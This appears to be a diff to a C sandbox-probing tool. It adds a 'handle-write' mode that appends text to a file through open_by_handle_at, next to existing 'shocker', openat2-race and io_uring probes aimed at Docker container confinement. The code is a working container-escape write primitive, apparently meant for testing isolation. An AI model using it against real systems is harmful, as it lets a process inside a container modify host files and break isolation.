@@ -18,6 +18,10 @@
  *   handle PATH                name_to_handle_at + open_by_handle_at, against
  *                              PATH's directory (needs CAP_DAC_READ_SEARCH and
  *                              a filesystem that decodes handles)
+ *   handle-write PATH LINE     appends LINE to PATH through open_by_handle_at
+ *                              (O_WRONLY|O_APPEND), the handle's mount given by
+ *                              PATH itself opened read-only (a file Docker
+ *                              bind-mounts: overlayfs has no handles)
  *   name-handle PATH           prints PATH's handle as "TYPE HEX" (run on the host)
  *   shocker MOUNTFILE TYPE HEX open_by_handle_at of that handle against the
  *                              filesystem of MOUNTFILE (a file Docker bind-mounts
@@ -140,6 +144,29 @@ static int by_handle(const char *path)
 	return read_one(fd);
 }
 
+static int handle_write(const char *path, const char *line)
+{
+	struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
+	int mount_id, mfd, fd;
+	ssize_t n;
+
+	h->handle_bytes = MAX_HANDLE_SZ;
+	if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0)) {
+		perror("name_to_handle_at");
+		return 1;
+	}
+	mfd = open(path, O_RDONLY);
+	fd = open_by_handle_at(mfd, h, O_WRONLY | O_APPEND);
+	free(h);
+	if (fd < 0) {
+		perror("open_by_handle_at");
+		return 1;
+	}
+	n = write(fd, line, strlen(line));
+	close(fd);
+	return n < 0;
+}
+
 static int name_handle(const char *path)
 {
 	struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
@@ -235,12 +262,15 @@ int main(int argc, char **argv)
 		return openat2_race(argv[2], atoi(argv[3]));
 	if (!strcmp(argv[1], "handle"))
 		return by_handle(argv[2]);
+	if (!strcmp(argv[1], "handle-write") && argc > 3)
+		return handle_write(argv[2], argv[3]);
 	if (!strcmp(argv[1], "name-handle"))
 		return name_handle(argv[2]);
 	if (!strcmp(argv[1], "shocker") && argc > 4)
 		return shocker(argv[2], argv[3], argv[4]);
 usage:
 	fprintf(stderr, "usage: %s openat2|uring-open|uring-open2|uring-open-fixed|handle PATH | "
-			"uring-connect IP PORT | name-handle PATH | shocker MOUNTFILE TYPE HEX\n", argv[0]);
+			"uring-connect IP PORT | handle-write PATH LINE | name-handle PATH | "
+			"shocker MOUNTFILE TYPE HEX\n", argv[0]);
 	return 2;
 }
